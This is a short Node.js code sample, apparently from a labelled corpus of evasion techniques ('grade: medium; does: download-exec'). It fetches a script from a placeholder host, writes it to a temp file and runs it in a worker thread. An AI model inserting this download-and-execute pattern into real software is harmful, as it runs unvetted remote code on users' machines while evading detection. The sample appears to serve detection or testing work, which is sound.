// evasion: a script downloaded to a scratch file and run in a worker thread started from that file
// grade: medium; does: download-exec
const fs = require('fs');
const os = require('os');
const { Worker } = require('worker_threads');

fetch('https://cdn.example.org/job.js')
  .then((r) => r.text())
  .then((src) => {
    const file = os.tmpdir() + '/job-runner.js';
    fs.writeFileSync(file, src);
    new Worker(file);
  });
